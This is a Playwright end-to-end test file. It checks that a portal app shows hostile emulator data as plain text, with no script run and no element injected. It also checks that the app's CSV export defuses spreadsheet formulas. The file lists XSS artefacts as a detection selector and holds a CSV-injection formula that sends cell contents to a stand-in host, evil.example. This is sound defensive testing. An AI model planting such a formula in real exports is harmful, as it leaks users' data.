import { readFileSync } from 'node:fs'
import type { Frame, Locator, Page } from '@playwright/test'
import { FAILED_RESOURCE, test, expect } from './fixtures.ts'
import { APP_URL } from './env.ts'
import { APP_CONNECTOR } from './pages/OpenlinesPage.ts'
import type { PortalData } from '../emulator/data/types.ts'
import { HOSTILE_PAYLOADS } from '../emulator/data/generate.ts'

/**
 * docs/decisions.md D13 "Text from the portal is text": the emulator's hostile data (emulator/README.md,
 * "Hostile data") puts a payload that sets window.__pwned into every name and text the app shows. Every view
 * is opened with it; then no script may have run, no element may have come out of the data, and the payloads
 * must be on screen as the literal text they are.
 */

declare global {
  interface Window {
    __pwned?: unknown
  }
}

/** Elements only a payload could have made: the app itself has none (its scripts have src, its SVGs no handlers). */
const INJECTED = 'img[src="x"], [onerror], [onload], script:not([src]), iframe, a[href^="javascript:"]'

function appFrame(page: Page): Frame {
  const frame = page.frames().find(f => f.url().startsWith(APP_URL))
  if (!frame) throw new Error('the app frame is not there')
  return frame
}

const dialogs = new WeakMap<Page, string[]>()

test.beforeEach(async ({ emulator, page }) => {
  await emulator.reset({ hostile: true })
  // a payload that got to run alert() would open a dialog: record it so the test fails instead of hanging
  const opened: string[] = []
  dialogs.set(page, opened)
  page.on('dialog', dialog => {
    opened.push(dialog.message())
    void dialog.dismiss()
  })
})

/** No script ran (in the app or the portal page), no dialog opened and nothing was injected into the app's DOM. */
async function expectNothingRan(page: Page): Promise<void> {
  const app = appFrame(page)
  // an <img onerror> fires once the load of "x" fails: give it that moment before looking
  await page.waitForTimeout(150)
  expect(await app.evaluate(() => window.__pwned)).toBeUndefined()
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined()
  expect(dialogs.get(page)).toEqual([])
  expect(await app.evaluate(selector => [...document.querySelectorAll(selector)].map(e => e.outerHTML.slice(0, 160)), INJECTED)).toEqual([])
}

/** The hostile text is shown as the literal characters, payload included. */
async function expectLiteral(where: Locator, text: string): Promise<void> {
  expect(HOSTILE_PAYLOADS.some(p => text.includes(p))).toBe(true)
  await expect(where).toContainText(text)
}

const fullName = (data: PortalData, id: number) => {
  const u = data.users.find(x => x.id === id)!
  return `${u.name} ${u.lastName}`
}

test.describe('Hostile portal data renders as text', () => {
  // hostile data the portal answers may be refused or point at nothing, and Chromium logs each failed request
  test.use({ allowConsoleErrors: [FAILED_RESOURCE] })
  test('Departments: tree, node panel, bind picker — and the journal and coverage matrix after a bind', async ({ portal, departments, emulator, page }) => {
    const data = await emulator.state()
    expect(data.hostile).toBe(true)
    const root = data.nodes.find(n => n.parentId === null)!
    const bound = data.bindings.find(b => b.nodeId === root.id && b.originalNodeId === null)!
    const boundChat = data.chats.find(c => c.id === bound.chatId)!
    const admin = fullName(data, 1)

    await portal.open({ user: 1 })
    await expectLiteral(portal.currentUser, admin)
    await departments.open()
    await expectLiteral(portal.app.getByTestId(`departments-node-${root.id}`), root.name)
    // the filter and humanresources.node.search get the hostile name as a search term, too
    await departments.select(root.id, root.name)
    await expectLiteral(departments.panelTitle, root.name)
    await expectLiteral(departments.communication('channel', boundChat.id), boundChat.title)
    await expectNothingRan(page)

    await departments.bindButton.click()
    await expect(departments.bindModal).toBeVisible()
    await expectLiteral(departments.bindModal, root.name)
    const option = departments.bindModal.locator('[data-testid^="departments-option-chat-"][data-bound="false"]').first()
    const optionId = Number((await option.getAttribute('data-testid'))!.replace('departments-option-chat-', ''))
    const picked = data.chats.find(c => c.id === optionId)!
    await expectLiteral(option, picked.title)
    await expectNothingRan(page)

    await departments.pick('chat', picked.id)
    // Two-line hostile titles make the dialog taller: centred in the content-sized frame, its footer ends
    // below the portal window, and a modal is fixed, so scrolling into view does not move the portal page.
    // A user scrolls the portal page; so does the test.
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight))
    await departments.bindSubmit.click()
    await expectLiteral(departments.communication('chat', picked.id), picked.title)
    expect((await emulator.state()).bindings).toContainEqual({ nodeId: root.id, chatId: picked.id, type: 'CHAT', originalNodeId: null })

    // the Structure section: matrix rows and the journal entry the bind left, both full of node names
    await portal.nav(/^Structure$/).click()
    await expect(portal.app.getByTestId('coverage-status')).toHaveAttribute('data-state', 'loaded', { timeout: 20_000 })
    await expectLiteral(portal.app.getByTestId(`coverage-row-${root.id}`), root.name)
    await expectNothingRan(page)
    await portal.app.getByTestId('coverage-tabs').getByRole('link', { name: 'Change journal' }).click()
    const entry = portal.app.getByTestId('journal-table').locator(`[data-node-id="${root.id}"]`).first()
    await expectLiteral(entry, root.name)
    await expectLiteral(entry, admin)
    await expectNothingRan(page)
  })

  test('Chats: the list, a chat page with its description, participants and positions', async ({ portal, chats, emulator, page }) => {
    const data = await emulator.state()
    const chat = data.chats.find(c => c.ownerId === 2 && c.type === 'CHAT' && c.workgroupId === null)!
    const other = chat.memberIds.find(id => id !== 2)!
    const person = data.users.find(u => u.id === other)!

    await portal.open({ user: 2 })
    await chats.open()
    await expectLiteral(chats.chatInList(chat.id), chat.title)
    await expectNothingRan(page)

    await chats.chatInList(chat.id).click()
    await expectLiteral(chats.pageTitle, chat.title)
    await expectLiteral(chats.id('chats-page'), chat.description)
    await expectLiteral(chats.id(`chats-person-${other}`), fullName(data, other))
    await expectLiteral(chats.id(`chats-person-${other}`), person.workPosition)
    // the rename field starts from the title: a value, never markup
    await expect(chats.id('chats-rename-input')).toHaveValue(chat.title)
    await expectNothingRan(page)
  })

  test('Open Channels: the console and a line\'s channel settings', async ({ portal, openlines, emulator, page }) => {
    const data = await emulator.state()
    const line = data.openLines[0]!
    const livechat = data.connectors.find(c => c.id === 'livechat')!

    await portal.open({ user: 1 })
    await openlines.open()
    const livechatRow = openlines.id(`openlines-pair-livechat:${line.id}`).locator('xpath=ancestor::tr')
    await expectLiteral(livechatRow, line.name)
    await expectLiteral(livechatRow, livechat.name)
    await expectNothingRan(page)

    await openlines.register.click()
    await expect(openlines.connectorState).toHaveAttribute('data-state', 'registered')
    await openlines.activate(line.id).click()
    await openlines.settings(line.id).click()
    // a new channel is named after its line: the hostile name is a field value, sent as it is
    await expect(openlines.field('name')).toHaveValue(line.name)
    await expect(openlines.id('openlines-channel-line')).toHaveValue(`${line.name} (#${line.id})`)
    await openlines.field('url').fill('https://shop.example/chat')
    await openlines.save.click()
    await expect(openlines.form).toHaveCount(0)
    const pair = (await emulator.state()).connectorLines.find(p => p.connectorId === APP_CONNECTOR && p.lineId === line.id)!
    expect(pair.data).toMatchObject({ NAME: line.name })
    await expectNothingRan(page)
  })

  test('CRM fields open with nothing run', async ({ portal, crmFields, page }) => {
    await portal.open({ user: 1 })
    await crmFields.open()
    await expect(crmFields.table).toBeVisible()
    await expectNothingRan(page)
  })

  test('the coverage CSV keeps names as text and defuses a name that a spreadsheet would run', async ({ portal, emulator, page }) => {
    const data = await emulator.state()
    const node = data.nodes.find(n => n.parentId !== null)!
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    await emulator.update({ nodes: [{ id: node.id, name: formula }] })
    const plain = data.nodes.find(n => n.parentId !== null && n.id !== node.id)!

    await portal.open({ user: 1 })
    await portal.nav(/^Structure$/).click()
    await expect(portal.app.getByTestId('coverage-status')).toHaveAttribute('data-state', 'loaded', { timeout: 20_000 })
    await expectLiteral(portal.app.getByTestId(`coverage-row-${plain.id}`), plain.name)
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      portal.app.getByTestId('coverage-export-csv').click()
    ])
    const csv = readFileSync((await download.path())!, 'utf8')
    // a spreadsheet sees text starting with an apostrophe, not a formula
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`)
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m)
    // markup stays as it was written (quoted where it has a quote or comma)
    expect(csv).toContain(plain.name.includes('"') ? `"${plain.name.replace(/"/g, '""')}"` : plain.name)
    await expectNothingRan(page)
  })
})
